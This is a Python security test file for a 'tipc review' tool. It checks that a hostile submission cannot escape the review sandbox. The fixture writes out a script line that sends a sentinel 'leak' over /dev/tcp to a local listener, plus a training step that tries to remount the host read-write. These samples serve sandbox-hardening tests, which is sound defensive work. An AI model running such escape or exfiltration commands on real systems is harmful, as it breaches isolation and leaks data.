"""Issue 22 through `tipc review`, as root: one hostile submission whose train.py remounts the host
read-write and whose test script aims at the host; and a review whose sandbox would be weakened."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.security.conftest import (
    HostileRepo,
    Listener,
    Reviewer,
    _hostile,
    contained,
    ended,
    violation_rule,
)

pytestmark = pytest.mark.integration


@dataclass
class Reviewed:
    repo: HostileRepo
    done: subprocess.CompletedProcess[str]
    out: Path
    received: bytes
    host_marker: Path
    script_marker: Path


def _review(reviewer: Reviewer, repo: Path, out: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return reviewer.tipc(
        "review",
        str(repo),
        "--out",
        str(out),
        "--format",
        "json",
        "--no-color",
        "--jobs",
        "1",
        "--device",
        "cpu",
        "--budget",
        "600",
        *extra,
    )


@pytest.fixture(scope="module")
def reviewed(module_root_reviewer: Reviewer) -> Iterator[Reviewed]:
    reviewer = module_root_reviewer
    repo = _hostile(reviewer)
    listener = Listener()
    try:
        host_marker = reviewer.host / "review.txt"
        script_marker = reviewer.host / "observed.txt"
        repo.train("remount", targets={"host": str(host_marker)})
        repo.script_line(
            f"touch {script_marker}; "
            f"(echo leak {repo.sentinel} > /dev/tcp/127.0.0.1/{listener.port}) 2>/dev/null || true"
        ).seal()
        out = reviewer.base / "review"
        done = _review(reviewer, repo.repo, out)
        yield Reviewed(repo, done, out, listener.received(), host_marker, script_marker)
    finally:
        listener.close()


def test_review_of_a_remounting_submission_changes_nothing_on_the_host(reviewed: Reviewed) -> None:
    ended(reviewed.done, 0, 1)
    out = reviewed.out
    assert out.is_dir() and any(out.rglob("*.log")), reviewed.done.stderr[-2000:]
    contained(not reviewed.host_marker.exists(), "the reviewed submission remounted / and wrote the host")
    reports = list(out.rglob("report.json"))
    contained(bool(reports), "the review wrote no check report")
    rules = [violation_rule(json.loads(p.read_text())) for p in reports]
    contained(
        any(r is not None and r.get("verdict") == "FAIL" and "mount" in str(r) for r in rules),
        f"no report of the review FAILs sandbox.violations: {rules}",
    )
    contained(reviewed.repo.unchanged(), f"the submission changed: {reviewed.repo.changed_files()}")


def test_review_observes_the_script_in_the_sandbox(reviewed: Reviewed) -> None:
    ended(reviewed.done, 0, 1)
    assert json.loads(reviewed.done.stdout), reviewed.done.stderr[-2000:]
    contained(not reviewed.script_marker.exists(), "a line of the repo's script created a file on the host")
    contained(
        reviewed.received == b"",
        f"the repo's script reached the host's loopback: {reviewed.received[:200]!r}",
    )


@pytest.mark.parametrize("weakening", ["--check-arg=--no-sandbox", "--check-arg=--network"])
def test_review_refuses_a_weakened_sandbox_unless_allowed(
    module_root_reviewer: Reviewer, weakening: str, tmp_path: Path
) -> None:
    """Untrusted code by definition: a review whose checks would run with less than the full sandbox is
    refused before anything runs (exit 2), naming what weakens it."""
    repo = tmp_path / "sub"
    repo.mkdir()
    (repo / "README.md").write_text("a submission\n")
    done = _review(module_root_reviewer, repo, tmp_path / "out", weakening)
    assert done.returncode == 2, done.stderr[-2000:]
    assert "--allow-weak-sandbox" in done.stderr and weakening.split("=", 1)[1] in done.stderr
    assert not (tmp_path / "out" / "areas").exists(), "a refused review laid out work areas"
